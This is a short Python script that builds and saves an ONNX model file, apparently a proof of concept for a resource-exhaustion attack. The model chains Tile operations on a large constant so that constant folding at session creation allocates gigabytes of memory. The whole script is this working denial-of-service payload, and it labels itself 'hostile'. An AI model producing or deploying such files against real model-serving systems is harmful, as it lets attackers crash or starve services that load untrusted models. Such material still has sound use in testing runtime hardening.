import numpy as np, onnx
from onnx import helper, TensorProto, numpy_helper
# A chain of Tile ops on a constant: constant folding at session creation materialises GBs.
base = numpy_helper.from_array(np.ones((1024, 1024), np.float32), "base")
reps = numpy_helper.from_array(np.array([8, 8], np.int64), "reps")
nodes = [helper.make_node("Tile", ["base", "reps"], ["t0"])]
nodes.append(helper.make_node("Tile", ["t0", "reps"], ["t1"]))
nodes.append(helper.make_node("ReduceSum", ["t1"], ["s"], keepdims=0))
nodes.append(helper.make_node("Add", ["x", "s"], ["y"]))
g = helper.make_graph(nodes, "hostile", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                      [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], [base, reps])
m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)])
onnx.save(m, "hostile.onnx")
